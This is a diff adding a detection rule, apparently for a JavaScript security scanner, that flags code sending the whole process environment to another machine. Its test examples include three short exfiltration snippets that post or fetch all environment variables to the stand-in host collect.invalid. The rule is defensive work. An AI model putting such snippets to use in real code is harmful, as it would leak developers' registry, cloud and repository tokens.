@@ -1,0 +1,45 @@
+import { defineRule, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
+
+export default defineRule({
+  meta: {
+    summary: 'Sends the whole environment to another machine',
+    why: 'The environment of a developer or a build holds tokens for registries, clouds and repositories. Honest code sends chosen variables at most; a child process that is given the environment, or a local log of it, looks alike and is not flagged.',
+    behaviour: 'theft',
+    messages: { sent: 'Sends the whole environment through {sink}' },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'the environment is posted as JSON',
+        code: `const https = require('https');\nconst req = https.request({ hostname: 'collect.invalid', method: 'POST' });\nreq.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));\nreq.end();`,
+      },
+      {
+        title: 'it travels through a function and an object',
+        code: `import axios from 'axios';\nconst send = body => axios.post('https://collect.invalid', body);\nsend({ host: 'x', env: { ...process.env } });`,
+      },
+      {
+        title: 'it is collected in a loop',
+        code: `let all = '';\nfor (const key in process.env) all += key + '=' + process.env[key] + ';';\nfetch('https://collect.invalid/?q=' + encodeURIComponent(all));`,
+      },
+    ],
+    passes: [
+      {
+        title: 'a child process is given the environment',
+        code: `require('child_process').spawn('node', ['a.js'], { env: { ...process.env, DEBUG: '1' } });`,
+      },
+      { title: 'one variable names the server', code: `fetch(process.env.API_URL + '/status');` },
+      { title: 'the environment is printed', code: `console.log(JSON.stringify(process.env));` },
+    ],
+  },
+  file(context) {
+    for (const { call, labels } of outgoing(context)) {
+      const label = labels.find(({ kind }) => kind === 'environment');
+      if (!label) continue;
+      context.report({
+        messageId: 'sent',
+        data: { sink: call.name },
+        chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
+      });
+    }
+  },
+});
